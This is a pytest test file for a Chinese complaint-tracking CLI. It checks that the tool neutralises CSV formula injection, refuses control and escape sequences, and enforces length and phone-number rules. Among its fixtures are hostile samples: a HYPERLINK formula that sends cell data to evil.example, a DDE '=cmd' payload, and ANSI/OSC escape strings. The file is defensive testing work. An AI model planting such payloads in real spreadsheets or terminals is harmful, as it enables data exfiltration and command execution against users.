"""Hostile input: spreadsheet formulas in CSV cells, control characters and escape sequences,
over-long text, look-alike digits, absurd numbers, giant CSV cells. Each is one sentence and
exit 2 with nothing changed, or is written out harmlessly."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kefu_cli.cli.app import app

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "-张三", "+李四", "@王五", "'=已引用"]
HEADER = "受理时间,受理方式,投诉类别,投诉人,联系电话,保单号,投诉内容"


def counts(db) -> tuple[int, ...]:
    con = sqlite3.connect(db)
    try:
        return tuple(
            con.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
            for t in ("complaint", "callback", "deadline", "audit_event")
        )
    finally:
        con.close()


def add(kefu, *args: str):
    return kefu(
        "complaint", "add", "--received", "2026-09-21T09:00", "--channel", "phone", "--category", "claims", *args
    )  # fmt: skip


def add_ok(kefu, name="王小明", phone="13812345678", *extra) -> str:
    r = add(kefu, "--name", name, "--phone", phone, *extra, "--json")
    assert r.code == 0, r.err
    return r.json()["id"]


def raw_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


# --- CSV formulas ------------------------------------------------------------------------------


def test_export_neutralises_formulas_and_import_restores_them(kefu, tmp_path):
    ids = [add_ok(kefu, name, f"1380000000{i}", "--summary", "+1+2 理赔款") for i, name in enumerate(FORMULA_NAMES)]
    dest = tmp_path / "out.csv"
    kefu.ok("export", "complaints", str(dest), "--unmask")
    rows = raw_rows(dest)
    header = rows[0]
    names = [r[header.index("投诉人")] for r in rows[1:]]
    assert names == ["'" + n for n in FORMULA_NAMES]  # each starts with ', which Excel shows as text
    assert {r[header.index("投诉内容")] for r in rows[1:]} == {"'+1+2 理赔款"}
    for r in rows:
        for cell in r:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
            assert not (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()), cell

    # the same file imported into another database gives back the original text
    other = str(tmp_path / "other.sqlite")
    runner = CliRunner()
    assert runner.invoke(app, ["--db", other, "db", "init"]).exit_code == 0
    r = runner.invoke(app, ["--db", other, "import", "complaints", str(dest), "--json"], catch_exceptions=False)
    assert r.exit_code == 0, r.stderr
    con = sqlite3.connect(other)
    try:
        stored = con.execute("SELECT name, summary FROM complaint ORDER BY phone").fetchall()
    finally:
        con.close()
    assert stored == [(n, "+1+2 理赔款") for n in FORMULA_NAMES]
    assert len(ids) == len(stored)


def test_masked_names_and_list_csv_are_neutralised_too(kefu):
    add_ok(kefu, "=1+2", "13800000001")
    rows = list(csv.reader(io.StringIO(kefu.ok("complaint", "list", "--csv"))))
    name = rows[1][rows[0].index("name")]
    assert name.startswith("'=") and name != "'=1+2"  # masked, and still no formula
    rows = list(csv.reader(io.StringIO(kefu.ok("complaint", "list", "--csv", "--unmask"))))
    assert rows[1][rows[0].index("name")] == "'=1+2"


def test_negative_numbers_stay_numbers_in_report_csv(kefu, tmp_path):
    add_ok(kefu)  # received Mon 2026-09-21: the 24-hour investigation is long overdue on 10-09
    out = kefu.ok("report", "deadlines", "--as-of", "2026-10-09", "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    left = {r["kind"]: r["working_days_left"] for r in rows}
    assert left["initial_investigation"].startswith("-") and int(left["initial_investigation"]) < 0
    dest = tmp_path / "r.csv"
    kefu.ok("report", "deadlines", "--as-of", "2026-10-09", "--csv", "--output", str(dest))
    rows = list(csv.DictReader(io.StringIO(dest.read_bytes().decode("utf-8-sig"))))
    assert {r["kind"]: r["working_days_left"] for r in rows} == left
    assert not any(c.startswith("'") for r in raw_rows(dest) for c in r)


def test_errors_file_is_neutralised(kefu, tmp_path):
    f = tmp_path / "c.csv"
    f.write_text(HEADER + "\n2026-09-21 09:00,电话,理赔,=cmd|' /C calc'!A0,abc,P1,x\n", "utf-8")
    errors = tmp_path / "errors.csv"
    assert kefu("import", "complaints", str(f), "--errors", str(errors)).code == 2
    rows = raw_rows(errors)
    assert "'=cmd|' /C calc'!A0" in rows[1]
    assert all(not c.startswith(("=", "+", "@")) and not c.startswith("-") for r in rows for c in r)


# --- control characters -------------------------------------------------------------------------

HOSTILE = {
    "NUL": "王\x00小明",
    "ESC": "王\x1b[31m小明",
    "OSC": "王\x1b]0;pwned\x07小明",
    "CSI8": "王\x9b2J小明",
    "BIDI": "王\u202e明小",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_control_characters_in_name_summary_clerk_are_refused(kefu, kind):
    bad = HOSTILE[kind]
    before = counts(kefu.db)
    for option, field in (("--name", "--name"), ("--summary", "--summary"), ("--clerk", "--clerk")):
        args = {"--name": "王小明", "--phone": "13812345678", option: bad}
        r = add(kefu, *[x for kv in args.items() for x in kv])
        assert r.code == 2, (kind, option, r.out)
        assert field in r.err and "控制字符" in r.err or "U+" in r.err, (kind, option, r.err)
        assert "\x1b" not in r.err and "\x00" not in r.err and "\x9b" not in r.err
    r = kefu("callback", "add", "--kind", "other", "--due", "2026-10-20", "--name", bad, "--phone", "13812345678")
    assert r.code == 2 and "--name" in r.err
    assert counts(kefu.db) == before


def test_notes_reasons_results_refuse_control_characters(kefu):
    cid = add_ok(kefu)
    before = counts(kefu.db)
    for args in (
        ("complaint", "notify", cid, "--note", "已告知\x1b[2J"),
        ("complaint", "pause", cid, "--reason", "鉴定\x00"),
        ("complaint", "decide", cid, "--result", "同意\x1b]8;;http://x\x07赔付"),
        ("complaint", "transfer", cid, "--to", "北京\x1b[0m分公司"),
    ):
        r = kefu(*args, "--at", "2026-09-21T10:00")
        assert r.code == 2, args
        assert args[3].split()[0] in r.err and "控制字符" in r.err, (args, r.err)
    hf = kefu.ok("callback", "add", "--kind", "other", "--due", "2026-10-20", "--name", "王", "--phone",
                 "13812345678", "--at", "2026-09-21T09:00", "--json")["id"]  # fmt: skip
    before = counts(kefu.db)
    r = kefu("callback", "attempt", hf, "--method", "electronic", "--result", "no_answer", "--note", "x\x1b[2J",
             "--at", "2026-09-21T10:00")  # fmt: skip
    assert r.code == 2 and "--note" in r.err
    r = kefu("callback", "unreachable", hf, "--reason", "空号\x00", "--at", "2026-09-21T10:00")
    assert r.code == 2 and "--reason" in r.err
    assert counts(kefu.db) == before


def test_newlines_and_tabs_are_fine_in_long_text_not_in_names(kefu):
    cid = add_ok(kefu, "王小明", "13812345678", "--summary", "第一行\r\n第二行\t(附件)")
    shown = kefu.ok("complaint", "show", cid, "--json")
    assert shown["summary"] == "第一行\n第二行\t(附件)"
    r = add(kefu, "--name", "王\n小明", "--phone", "13812345678")
    assert r.code == 2 and "--name" in r.err and "一行" in r.err


def test_terminal_output_shows_escape_sequences_visibly(kefu):
    cid = add_ok(kefu)
    con = sqlite3.connect(kefu.db)  # data written before validation existed, or by another tool
    with con:
        con.execute("UPDATE complaint SET branch = ?, handler = ? WHERE id = ?", ("朝阳\x1b[2J", "李\x1b]0;x\x07娜", cid))
        con.execute("UPDATE deadline SET branch = ? WHERE case_id = ?", ("朝阳\x1b[2J", cid))
    con.close()
    for args in (("complaint", "list"), ("complaint", "show", cid), ("report", "deadlines")):
        r = kefu(*args)
        assert r.code == 0, (args, r.err)
        assert "\x1b" not in r.out and "\x07" not in r.out, args
        assert "朝阳\\x1b[2J" in r.out, args  # shown, in a visible form
    # JSON escapes them too (as \u001b), so a script piping it to a terminal is safe as well
    js = kefu("complaint", "list", "--json").out
    assert "\x1b" not in js and "\\u001b" in js


def test_error_messages_do_not_replay_escape_sequences(kefu):
    r = kefu("complaint", "list", "--channel", "\x1b]0;pwned\x07")
    assert r.code == 2 and "\x1b" not in r.err and "\\x1b" in r.err


# --- length limits ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("option", "limit", "filler"),
    [("--name", 50, "王"), ("--summary", 2000, "字"), ("--clerk", 50, "张"), ("--policy", 60, "P")],
)
def test_length_limits_are_named(kefu, option, limit, filler):
    base = {"--name": "王小明", "--phone": "13812345678"}
    ok = add(kefu, *[x for kv in {**base, option: filler * limit}.items() for x in kv])
    assert ok.code == 0, ok.err
    before = counts(kefu.db)
    r = add(kefu, *[x for kv in {**base, option: filler * (limit + 1)}.items() for x in kv])
    assert r.code == 2 and option in r.err and f"最多 {limit} 个字符" in r.err
    assert counts(kefu.db) == before


def test_note_limit_is_ten_thousand(kefu):
    cid = add_ok(kefu)
    before = counts(kefu.db)
    r = kefu("complaint", "investigate", cid, "--note", "备" * 10_001, "--at", "2026-09-21T10:00")
    assert r.code == 2 and "--note" in r.err and "最多 10000 个字符" in r.err
    assert counts(kefu.db) == before
    assert kefu("complaint", "investigate", cid, "--note", "备" * 10_000, "--at", "2026-09-21T10:00").code == 0


def test_phone_longer_than_twenty_digits(kefu):
    r = add(kefu, "--name", "王小明", "--phone", "1" * 21)
    assert r.code == 2 and "--phone" in r.err and "最多 20 位" in r.err
    r = add(kefu, "--name", "王小明", "--phone", "1" * 20)
    assert r.code == 2 and "不是有效的号码" in r.err


@pytest.mark.parametrize(
    "typed, stored",
    [
        ("１３８ 1234-5678", "13812345678"),  # full-width digits, spaces, dashes
        ("+86 138 1234 5678", "13812345678"),
        ("010-88889999", "01088889999"),  # Beijing landline with its area code
        ("(0755) 1234567", "07551234567"),  # 7-digit local number, 4-digit area code
        ("010-88889999 转 123", "01088889999-123"),  # an extension is kept apart
        ("010-88889999-123", "01088889999-123"),
        ("400-810-8888", "4008108888"),
        ("95555", "95555"),
    ],
)
def test_chinese_phone_numbers_as_people_write_them(kefu, typed, stored):
    cid = add(kefu, "--name", "王小明", "--phone", typed, "--json")
    assert cid.code == 0, cid.err
    assert kefu.ok("complaint", "show", cid.json()["id"], "--json", "--unmask")["phone"] == stored


@pytest.mark.parametrize("typed", ["12345", "88889999", "138123456789", "23812345678", "13812345678 转 1"])
def test_numbers_that_are_no_chinese_phone_number_are_refused(kefu, typed):
    r = add(kefu, "--name", "王小明", "--phone", typed)
    assert r.code == 2 and "--phone" in r.err and "例如" in r.err and "Traceback" not in r.err


# --- digits ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("phone", ["1381234567²", "138١٢٣٤٥٦٧٨", "138١2345678", "138𝟏2345678", "138½2345678"])
def test_look_alike_digits_are_refused(kefu, phone):
    before = counts(kefu.db)
    r = add(kefu, "--name", "王小明", "--phone", phone)
    assert r.code == 2 and "--phone" in r.err and "0-9" in r.err
    r = kefu("callback", "add", "--kind", "other", "--due", "2026-10-20", "--name", "王", "--phone", phone)
    assert r.code == 2 and "--phone" in r.err
    assert counts(kefu.db) == before


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        ("１３８１２３４５６７８", "13812345678"),
        ("１３８ 1234-5678", "13812345678"),
        ("010-88889999", "01088889999"),
        ("+86 138 1234 5678", "13812345678"),  # the country code of a Chinese number is dropped: one number, one form
        ("+852 9123 4567", "+85291234567"),
        ("(010) 8888 9999", "01088889999"),
    ],
)
def test_full_width_digits_and_separators_are_accepted(kefu, given, stored):
    cid = add_ok(kefu, "王小明", given)
    assert kefu.ok("complaint", "show", cid, "--json", "--unmask")["phone"] == stored
    hf = kefu.ok("callback", "add", "--kind", "other", "--due", "2026-10-20", "--name", "王", "--phone", given,
                 "--at", "2026-09-21T09:00", "--json")["id"]  # fmt: skip
    assert kefu.ok("callback", "show", hf, "--json", "--unmask")["phone"] == stored


# --- numeric options -------------------------------------------------------------------------------

HUGE = "99999999999999999999"


def test_huge_numbers_are_one_sentence(kefu):
    add_ok(kefu)
    hf = kefu.ok("callback", "add", "--kind", "other", "--due", "2026-10-20", "--name", "王", "--phone",
                 "13812345678", "--at", "2026-09-21T09:00", "--json")["id"]  # fmt: skip
    before = counts(kefu.db)
    cases = [
        (("complaint", "list", "--limit", HUGE), "--limit"),
        (("complaint", "list", "--limit", "-1"), "--limit"),
        (("report", "deadlines", "--within", HUGE), "--within"),
        (("callback", "add", "--kind", "new_policy", "--receipt-date", "2026-09-20", "--cooling-off", HUGE,
          "--name", "王", "--phone", "13812345678"), "--cooling-off"),  # fmt: skip
        (("callback", "resolve", hf, "--reply", "已答复", "--followup", HUGE), "--followup"),
    ]
    for args, field in cases:
        r = kefu(*args)
        assert r.code == 2, (args, r.out, r.err)
        assert field in r.err and "范围" in r.err and "例如" in r.err, (args, r.err)
        assert "Traceback" not in r.err and "OverflowError" not in r.err
        assert len(r.err.strip().splitlines()) == 1, r.err
    assert counts(kefu.db) == before
    assert len(kefu.ok("complaint", "list", "--limit", "1", "--json")["items"]) == 1


# --- CSV import -------------------------------------------------------------------------------------


def test_a_giant_csv_cell_is_one_sentence_naming_the_row(kefu, tmp_path):
    f = tmp_path / "c.csv"
    f.write_text(
        HEADER + "\n"
        "2026-09-21 09:00,电话,理赔,王小明,13812345678,P1,正常\n"
        f"2026-09-21 10:00,电话,理赔,李雷,13900000000,P2,{'x' * 200_000}\n",
        "utf-8",
    )
    r = kefu("import", "complaints", str(f))
    assert r.code == 2 and "第 3 行" in r.err and "131072" in r.err
    assert "Traceback" not in r.err and "_csv.Error" not in r.err
    assert counts(kefu.db)[0] == 0


def test_a_long_cell_within_the_csv_limit_is_a_row_error(kefu, tmp_path):
    f = tmp_path / "c.csv"
    f.write_text(HEADER + f"\n2026-09-21 10:00,电话,理赔,李雷,13900000000,P2,{'x' * 5000}\n", "utf-8")
    r = kefu("import", "complaints", str(f))
    assert r.code == 2 and "第 2 行" in r.err and "最多 2000 个字符" in r.err
    assert counts(kefu.db)[0] == 0


def test_control_characters_in_an_imported_cell(kefu, tmp_path):
    f = tmp_path / "c.csv"
    f.write_bytes((HEADER + "\n2026-09-21 10:00,电话,理赔,李\x1b[2J雷,13900000000,P2,x\n").encode("utf-8"))
    r = kefu("import", "complaints", str(f))
    assert r.code == 2 and "第 2 行" in r.err and "第 4 列" in r.err and "\x1b" not in r.err
    assert counts(kefu.db)[0] == 0
